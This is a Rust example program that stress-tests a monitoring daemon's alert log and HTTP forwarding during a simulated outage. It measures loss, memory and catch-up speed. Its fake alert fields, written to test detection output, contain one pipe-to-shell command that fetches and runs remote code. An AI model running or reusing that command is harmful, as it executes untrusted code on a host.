//! A log server that is away for half an hour while a thousand alerts a second are raised: what is
//! lost, how much memory it takes, and how long it takes to catch up. The half hour is as short as
//! the alert log allows; while the server catches up, a thousand a second go on. It fails where less
//! comes out than is promised.
//!
//! ```text
//! cargo run --release --package monitor-daemon --example outage
//! cargo run --release --package monitor-daemon --example outage -- 5 # minutes
//! ```
#![expect(
    clippy::indexing_slicing,
    reason = "indexing a JSON value gives null, it never panics"
)]

use std::error::Error;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::ops::Range;
use std::path::Path;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
use std::{env, fs, process, thread};

use monitor_daemon::config::Config;
use monitor_daemon::metrics::Metrics;
use monitor_daemon::output::{Alert, AlertQueue, OutputSettings, Outputs};
use monitor_policy::Priority;
use serde_json::Value;

/// Alerts a second.
const ARRIVAL: u64 = 1000;
/// What the log has to take at least while the server is away, a second.
const LEAST_KEPT: f64 = 20_000.0;
/// How many times faster than they arrived alerts have to go out at least, once it is back.
const LEAST_FACTOR: f64 = 10.0;
/// How much more memory than after the first minute it may take, KiB.
const MOST_GROWTH: u64 = 16 << 10;
/// Of the log: more than half an hour takes.
const LOG_BYTES: u64 = 4 << 30;
/// What an alert in a container has.
const FIELDS: [(&str, &str); 12] = [
    ("container.id", "f1f1f1f1f1f1"),
    ("container.name", "payments-api-7d9c"),
    (
        "container.image.repository",
        "registry.example/payments/api",
    ),
    ("container.image.tag", "2026.11.3"),
    ("evt.type", "execve"),
    ("proc.name", "sh"),
    ("proc.exepath", "/usr/bin/dash"),
    ("proc.cmdline", "sh -c curl -s http://192.0.2.7/x | sh"),
    ("proc.pname", "node"),
    ("proc.aname[2]", "containerd-shim"),
    ("user.name", "www-data"),
    ("proc.cwd", "/srv/app/"),
];

type Failed = Box<dyn Error>;

fn main() -> Result<(), Failed> {
    let minutes: u64 = env::args().nth(1).map_or(Ok(30), |text| text.parse())?;
    let count = minutes * 60 * ARRIVAL;
    let folder = tempfile::tempdir()?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let server = listener.local_addr()?;
    drop(listener);
    let settings = settings(folder.path(), server)?;
    let metrics = Metrics::new()?;
    let mut outputs = Outputs::start(&settings, &metrics)?;
    let queue = outputs.queue();

    // Queues are full by then.
    let minute = 60 * ARRIVAL;
    raise(&queue, 0..minute)?;
    let before = rss_kib()?;
    let started = Instant::now();
    raise(&queue, minute..count)?;
    let (took, away) = (started.elapsed(), rss_kib()?);
    let kept = (count - minute) as f64 / took.as_secs_f64();
    let log = fs::metadata(folder.path().join("alerts.db"))?.len() >> 20;
    println!(
        "away: {count} alerts in {:.1} s ({kept:.0} a second), {log} MiB of log, memory {} MiB after the \
         first minute and {} MiB at the end",
        took.as_secs_f64(),
        before >> 10,
        away >> 10,
    );

    let listener = TcpListener::bind(server)?;
    let (done, caught_up) = std::sync::mpsc::channel();
    let receiver = thread::spawn(move || {
        let result = receive(&listener, count).map_err(|error| error.to_string());
        let _gone = done.send(());
        result
    });
    let started = Instant::now();
    let mut next = count;
    let mut most = away;
    while caught_up.recv_timeout(Duration::from_millis(100)).is_err() {
        let now = count + started.elapsed().as_millis() as u64 * ARRIVAL / 1000;
        raise(&queue, next..now)?;
        next = now;
        most = most.max(rss_kib()?);
    }
    let first = receiver.join().map_err(|_| "the server panicked")??;
    let took = first.0.elapsed();
    let lost = metrics.output("siem").lost_log.get();
    let rate = first.1 as f64 / took.as_secs_f64();
    let factor = rate / ARRIVAL as f64;
    println!(
        "back: caught up in {:.1} s: {rate:.0} a second, {factor:.1} times what arrived meanwhile; {lost} \
         lost, all in order; at most {} MiB of memory",
        took.as_secs_f64(),
        most >> 10,
    );
    outputs.stop(Duration::from_secs(1));
    promised("alerts were lost", lost == 0)?;
    promised("the log took too few a second", kept >= LEAST_KEPT)?;
    promised("it caught up too slowly", factor >= LEAST_FACTOR)?;
    promised("it took more and more memory", most <= before + MOST_GROWTH)
}

fn promised(what: &str, holds: bool) -> Result<(), Failed> {
    holds.then_some(()).ok_or_else(|| what.into())
}

fn settings(folder: &Path, server: SocketAddr) -> Result<OutputSettings, Failed> {
    let path = folder.join("monitor.yaml");
    let text = format!(
        "alerts:\n  stdout: off\n  log: {{path: {}, bytes: {LOG_BYTES}}}\n  \
         http: {{siem: {{url: 'http://{server}/', body: ndjson}}}}\n",
        folder.join("alerts.db").display()
    );
    let config = Config::parse(&path, &text)?;
    Ok(OutputSettings::new(&config, "web-1".into()))
}

/// Raises alerts with these numbers, as fast as the log takes them.
fn raise(queue: &AlertQueue, numbers: Range<u64>) -> Result<(), Failed> {
    // What is older than some days would be removed.
    let time = u64::try_from(SystemTime::now().duration_since(UNIX_EPOCH)?.as_nanos())?;
    for number in numbers {
        let fields = FIELDS.map(|(name, value)| (name.to_owned(), Value::from(value)));
        let number = ("number".to_owned(), number.into());
        let alert = Alert {
            rule: "Run shell in a web server".into(),
            priority: Priority::Critical,
            source: "syscall".into(),
            tags: ["container".into(), "mitre_execution".into()].into(),
            time,
            hostname: "web-1".into(),
            output: "A shell was run in a web server | parent=node command=sh -c curl".into(),
            fields: fields.into_iter().chain([number]).collect(),
        };
        while queue.push(alert.clone()).is_err() {
            thread::yield_now();
        }
    }
    Ok(())
}

/// Takes requests until alert number `count` - 1 is there; when the first came, and how many.
fn receive(listener: &TcpListener, count: u64) -> Result<(Instant, u64), Failed> {
    let (stream, _) = listener.accept()?;
    let mut stream = BufReader::new(stream);
    let first = Instant::now();
    let mut expected = 0;
    while expected < count {
        let (mut length, mut line) = (0, String::new());
        while stream.read_line(&mut line)? > 2 {
            if let Some(text) = line.strip_prefix("content-length: ") {
                length = text.trim().parse()?;
            }
            line.clear();
        }
        let mut body = vec![0; length];
        stream.read_exact(&mut body)?;
        for line in body
            .split(|byte| *byte == b'\n')
            .filter(|line| !line.is_empty())
        {
            let alert: Value = serde_json::from_slice(line)?;
            if alert["source"] == "internal" {
                // What the log had no room for is told, and was raised again.
                continue;
            }
            if alert["output_fields"]["number"] != expected {
                return Err(format!("{alert} came in the place of number {expected}").into());
            }
            expected += 1;
        }
        let answer = b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n";
        stream.get_mut().write_all(answer)?;
    }
    // The others are taken too, for the end not to wait for them.
    thread::spawn(move || std::io::copy(&mut stream, &mut std::io::sink()));
    Ok((first, expected))
}

/// Resident memory of this process, KiB.
fn rss_kib() -> Result<u64, Failed> {
    let status = fs::read_to_string(format!("/proc/{}/status", process::id()))?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    let text = line.ok_or("no VmRSS")?.trim().trim_end_matches(" kB");
    Ok(text.parse()?)
}
